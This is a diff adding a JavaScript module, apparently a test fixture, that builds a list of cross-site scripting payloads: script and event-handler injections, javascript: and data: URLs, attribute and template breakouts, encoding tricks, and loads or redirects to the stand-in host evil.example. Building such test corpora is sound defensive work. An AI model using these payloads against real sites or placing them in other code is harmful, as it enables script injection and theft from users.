@@ -1,0 +1,107 @@
+/** What an attacker writes where the page shows a text. Each would call `alert` or `pwned`, or load from evil.example. */
+const call = 'window.pwned=1';
+
+const tags = [
+  'img',
+  'svg',
+  'video',
+  'audio',
+  'body',
+  'iframe',
+  'object',
+  'embed',
+  'input',
+  'details',
+  'marquee',
+];
+const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
+
+const elements = tags.flatMap((tag) => [
+  `<${tag} src=x ${handlers.map((name) => `${name}=${call}`).join(' ')}>`,
+  `"><${tag} src=//evil.example/x autofocus ${handlers.map((name) => `${name}="${call}"`).join(' ')}>`,
+  `'><${tag.toUpperCase()}/**/SrC=x OnErRoR=${call}>`,
+]);
+
+const scripts = [
+  `<script>${call}</script>`,
+  `</script><script>${call}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script type=module>import('//evil.example/x.js')</script>`,
+  `</title><script>${call}</script>`,
+  `</textarea><script>${call}</script>`,
+  `</style><script>${call}</script>`,
+  `--><script>${call}</script>`,
+  `]]><script>${call}</script>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<template><script>${call}</script></template>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x>`,
+  `<svg><use href="data:image/svg+xml,<svg onload=${call}>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<style>*{background:url(//evil.example/x)}</style>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
+  `<form action=//evil.example/><button>x</button></form>`,
+  `<iframe srcdoc="<script>parent.${call}</script>">`,
+  `<object data="data:text/html,<script>${call}</script>">`,
+  `<a href="javascript:${call}">x</a>`,
+  `<a href=" &#106;avascript:${call}">x</a>`,
+  `<isindex action=javascript:${call}>`,
+  `<xss id=x tabindex=1 onfocus=${call}>`,
+];
+
+const urls = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `\u0001javascript:${call}`,
+  `java\nscript:${call}`,
+  `javascript://example.com/%0a${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
+  `vbscript:msgbox(1)`,
+  `blob:null/x`,
+  `file:///etc/passwd`,
+  `//evil.example/x`,
+  `https://example.com/"onmouseover="${call}`,
+  `https://example.com/'onmouseover='${call}`,
+  `https://example.com/<script>${call}</script>`,
+  `https://user:password@evil.example/`,
+  `http://\u202eelpmaxe.live/`,
+];
+
+const breakouts = [
+  `" onfocus=${call} autofocus x="`,
+  `' onfocus=${call} autofocus x='`,
+  `\` onfocus=${call} autofocus x=\``,
+  `" style="background:url(//evil.example/x)`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `#{${call}}`,
+  `<%= ${call} %>`,
+  `[[${call}]]`,
+  `\u2028${call}\u2029`,
+  `\u0000<img src=x onerror=${call}>`,
+  `\ufeff<img src=x onerror=${call}>`,
+  `＜img src=x onerror=${call}＞`,
+  `%3Cimg%20src=x%20onerror=${call}%3E`,
+  `&lt;img src=x onerror=${call}&gt;`,
+  `&#60;img src=x onerror=${call}&#62;`,
+  `\\u003cimg src=x onerror=${call}\\u003e`,
+  `\\x3cimg src=x onerror=${call}\\x3e`,
+  `{"__html":"<img src=x onerror=${call}>"}`,
+  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
+  `__proto__`,
+  `constructor`,
+  `toString`,
+  `hasOwnProperty`,
+  `=HYPERLINK("//evil.example/x")`,
+  `\u202e\u2066reversed\u2069`,
+  'a'.repeat(3_000),
+  '<b>'.repeat(500),
+  '\u0301'.repeat(200),
+];
+
+export const hostileTexts: readonly string[] = [...elements, ...scripts, ...urls, ...breakouts];
